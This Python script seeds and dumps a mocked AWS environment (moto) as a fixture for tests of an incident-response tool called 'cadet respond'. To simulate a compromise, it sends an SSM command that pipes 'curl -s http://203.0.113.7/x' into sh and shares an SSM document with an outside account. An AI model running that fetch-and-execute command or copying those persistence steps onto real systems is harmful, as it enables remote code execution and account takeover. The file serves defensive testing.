#!/usr/bin/env python3
"""The AWS world of the `cadet respond` tests, in a moto server (boto3, from the project venv).

  aws_world.py seed ENDPOINT  -> prints the ids it made, as JSON
  aws_world.py dump ENDPOINT  -> prints every field containment touches, as JSON

`seed` makes: IAM users `responder`, `restorer`, `cadet-detector` and `j.morales` with access
keys; role `OpsAdmin` with one inline policy of its own; a containment security group that
allows only HTTPS out; an Auto Scaling group of one instance in a `web` group; a command sent
to that instance; a document shared with another account. `dump` reads back what the plans
change, so a test can compare the world before an apply and after its restore field by field.
"""
import json
import sys

import boto3

REGION = "eu-west-1"


def clients(endpoint):
    kw = dict(endpoint_url=endpoint, region_name=REGION, aws_access_key_id="testing",
              aws_secret_access_key="testing")
    return {n: boto3.client(n, **kw) for n in ("iam", "ec2", "autoscaling", "ssm", "sts")}


def seed(endpoint):
    c = clients(endpoint)
    iam, ec2, asg, ssm = c["iam"], c["ec2"], c["autoscaling"], c["ssm"]
    users = {}
    for name in ("responder", "restorer", "cadet-detector", "j.morales"):
        iam.create_user(UserName=name)
        k = iam.create_access_key(UserName=name)["AccessKey"]
        users[name] = {"key": k["AccessKeyId"], "secret": k["SecretAccessKey"],
                       "arn": iam.get_user(UserName=name)["User"]["Arn"]}
    trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole",
             "Principal": {"AWS": "arn:aws:iam::123456789012:root"}}]}
    iam.create_role(RoleName="OpsAdmin", AssumeRolePolicyDocument=json.dumps(trust))
    iam.put_role_policy(RoleName="OpsAdmin", PolicyName="ops", PolicyDocument=json.dumps(
        {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "ssm:*", "Resource": "*"}]}))
    vpc = ec2.describe_vpcs(Filters=[{"Name": "isDefault", "Values": ["true"]}])["Vpcs"][0]["VpcId"]
    subnet = ec2.describe_subnets(Filters=[{"Name": "vpc-id", "Values": [vpc]}])["Subnets"][0]["SubnetId"]
    web = ec2.create_security_group(GroupName="web", Description="web", VpcId=vpc)["GroupId"]
    jail = ec2.create_security_group(GroupName="cadet-containment", Description="containment",
                                     VpcId=vpc)["GroupId"]
    ec2.revoke_security_group_egress(GroupId=jail, IpPermissions=[
        {"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
    ec2.authorize_security_group_egress(GroupId=jail, IpPermissions=[
        {"IpProtocol": "tcp", "FromPort": 443, "ToPort": 443, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
    untrack = ec2.create_security_group(GroupName="untrack", Description="allow all: untracked",
                                        VpcId=vpc)["GroupId"]
    ec2.authorize_security_group_ingress(GroupId=untrack, IpPermissions=[
        {"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
    nohttps = ec2.create_security_group(GroupName="closed", Description="no egress", VpcId=vpc)["GroupId"]
    ec2.revoke_security_group_egress(GroupId=nohttps, IpPermissions=[
        {"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
    image = ec2.describe_images()["Images"][0]["ImageId"]
    asg.create_launch_configuration(LaunchConfigurationName="web", ImageId=image,
                                    InstanceType="t3.micro", SecurityGroups=[web])
    asg.create_auto_scaling_group(AutoScalingGroupName="web", LaunchConfigurationName="web",
                                  MinSize=0, MaxSize=2, DesiredCapacity=1, VPCZoneIdentifier=subnet)
    instance = asg.describe_auto_scaling_groups(AutoScalingGroupNames=["web"])[
        "AutoScalingGroups"][0]["Instances"][0]["InstanceId"]
    cmd = ssm.send_command(InstanceIds=[instance], DocumentName="AWS-RunShellScript",
                           Parameters={"commands": ["curl -s http://203.0.113.7/x | sh"]})["Command"]
    content = {"schemaVersion": "2.2", "description": "x", "mainSteps": [{"action": "aws:runShellScript",
               "name": "x", "inputs": {"runCommand": ["id"]}}]}
    ssm.create_document(Name="kx7QpLw2mZrT9vBn", Content=json.dumps(content), DocumentType="Command")
    ssm.modify_document_permission(Name="kx7QpLw2mZrT9vBn", PermissionType="Share",
                                   AccountIdsToAdd=["444455556666"])
    print(json.dumps({"users": users, "instance": instance, "command_id": cmd["CommandId"],
                      "containment": jail, "untrack": untrack, "closed": nohttps, "web": web,
                      "document": "kx7QpLw2mZrT9vBn"}))


def dump(endpoint):
    c = clients(endpoint)
    iam, ec2, asg, ssm = c["iam"], c["ec2"], c["autoscaling"], c["ssm"]
    role = {n: iam.get_role_policy(RoleName="OpsAdmin", PolicyName=n)["PolicyDocument"]
            for n in iam.list_role_policies(RoleName="OpsAdmin")["PolicyNames"]}
    keys = {u: {k["AccessKeyId"]: k["Status"] for k in iam.list_access_keys(UserName=u)["AccessKeyMetadata"]}
            for u in ("j.morales",)}
    group = asg.describe_auto_scaling_groups(AutoScalingGroupNames=["web"])["AutoScalingGroups"][0]
    instances = {}
    for r in ec2.describe_instances()["Reservations"]:
        for i in r["Instances"]:
            if i["State"]["Name"] != "terminated":
                instances[i["InstanceId"]] = sorted(g["GroupId"] for g in i["SecurityGroups"])
    shared = ssm.describe_document_permission(Name="kx7QpLw2mZrT9vBn", PermissionType="Share")
    print(json.dumps({
        "role_policies": role,
        "access_keys": keys,
        "asg": {"desired": group["DesiredCapacity"],
                "instances": sorted(i["InstanceId"] for i in group["Instances"])},
        "instance_groups": instances,
        "document_shared_with": sorted(shared.get("AccountIds", [])),
    }, sort_keys=True))


if __name__ == "__main__":
    {"seed": seed, "dump": dump}[sys.argv[1]](sys.argv[2])
